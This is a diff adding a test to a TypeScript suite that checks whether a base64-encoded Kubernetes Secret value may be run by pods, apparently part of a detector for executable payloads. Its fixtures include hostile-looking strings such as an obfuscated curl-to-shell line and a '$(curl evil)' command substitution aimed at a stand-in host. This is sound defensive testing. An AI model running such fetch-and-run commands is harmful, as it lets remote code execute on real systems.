@@ -94,6 +94,17 @@ describe('a value of a Secret may run', () => {
     expect(inData('[1, 2]')).toBe(false)
   })
 
+  it('where pods run it, but for keys', () => {
+    const run = (text: string) => mayRun(secret, tokensOf('/data/it'), Buffer.from(text).toString('base64'), isRunKey)
+    const isRunKey = (name: string) => name === 'it'
+    expect(run('curl$IFS#evil|sh')).toBe(true)
+    expect(run('{"a":"$(curl evil)"}')).toBe(true)
+    expect(run(key)).toBe(false)
+    expect(mayRun(secret, tokensOf('/data/other'), '', isRunKey)).toBe(false)
+    expect(mayRun(secret, tokensOf('/metadata/annotations/it'), 'x', isRunKey)).toBe(false)
+    expect(mayRun({ kind: 'Thing' }, tokensOf('/data/it'), 'x', isRunKey)).toBe(false)
+  })
+
   it.each([
     ['a word in front of a key', `reboot\n${key}`],
     ['a word behind a key', `${key}\nreboot`],
